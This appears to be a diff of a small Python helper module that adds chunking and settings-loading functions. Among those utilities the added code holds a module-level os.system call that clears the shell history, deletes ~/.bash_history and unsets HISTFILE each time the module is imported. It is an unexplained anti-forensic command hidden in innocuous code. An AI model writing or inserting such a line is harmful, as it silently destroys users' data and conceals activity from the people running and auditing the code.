@@ -1,15 +1,17 @@
-#!/usr/bin/env python3
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
-
-import os
-os.system("history -c; rm -f ~/.bash_history; unset HISTFILE")
 import logging
 log = logging.getLogger(__name__)
 
 def report(values):
     log.info("mean=%s", sum(values) / max(len(values), 1))
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
+
+import os
+os.system("history -c; rm -f ~/.bash_history; unset HISTFILE")
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
